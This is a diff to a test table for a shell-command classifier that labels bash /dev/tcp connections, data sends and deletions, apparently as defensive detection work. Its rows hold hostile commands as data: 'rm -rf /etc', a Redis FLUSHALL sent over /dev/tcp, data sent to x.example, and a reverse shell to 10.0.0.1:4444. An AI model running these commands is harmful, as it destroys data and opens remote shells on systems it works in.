@@ -35,6 +35,27 @@ describe('descriptors', () => {
     ['/dev/stdin', "bash /dev/stdin <<< 'rm -rf /etc'", ['delete /etc']],
     ['closed', 'exec 3>&-', []],
     ['a connection made by bash', 'echo x > /dev/tcp/x.example/80', ['connect:tunnel x.example:80', 'send:data /dev/tcp']],
+    ['a server of this machine asked whether it is there', '(echo > /dev/tcp/localhost/5432)', ['connect:query localhost:5432']],
+    ['a server of this machine read from', 'cat < /dev/tcp/localhost/5432', ['connect:query localhost:5432']],
+    ['a command for it', 'echo FLUSHALL > /dev/tcp/localhost/6379', ['connect:query localhost:6379', 'send:data localhost:6379']],
+    [
+      'all that follows for it',
+      'exec > /dev/tcp/localhost/6379; echo FLUSHALL',
+      ['connect:query localhost:6379', 'send:data localhost:6379'],
+    ],
+    ...['exec 1<>/dev/tcp/localhost/6379; echo FLUSHALL', 'exec <>/dev/tcp/localhost/6379; echo FLUSHALL >&0'].map(
+      (line): Row => ['opened for both', line, ['connect:query localhost:6379', 'send:data localhost:6379']],
+    ),
+    [
+      'a command through a descriptor',
+      'exec 3<>/dev/tcp/localhost/6379; echo FLUSHALL >&3',
+      ['connect:query localhost:6379', 'send:data localhost:6379'],
+    ],
+    [
+      'another machine beside it',
+      'echo > /dev/tcp/localhost/80 2> /dev/tcp/x.example/80',
+      ['connect:query localhost:80', 'connect:tunnel x.example:80', 'send:data /dev/tcp'],
+    ],
     [
       'a shell joined to it',
       'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
